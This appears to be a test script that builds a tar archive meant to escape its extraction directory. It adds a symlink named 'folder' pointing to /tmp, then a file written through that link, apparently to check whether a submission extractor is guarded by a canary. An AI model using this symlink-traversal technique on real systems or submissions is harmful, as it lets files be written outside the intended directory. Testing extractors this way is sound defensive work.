# Makes the submission: a link to the canary, then a file through it.
import io
import os
import tarfile

kernel = open(os.environ["REFERENCE"] + "/sum.cu", "rb").read()
with tarfile.open("package.tar.gz", "w:gz") as package:
    link = tarfile.TarInfo("folder")
    link.type, link.linkname = tarfile.SYMTYPE, "/tmp"
    package.addfile(link)
    entry = tarfile.TarInfo("folder/" + os.environ["MARK"])
    entry.size = len(kernel)
    package.addfile(entry, io.BytesIO(kernel))
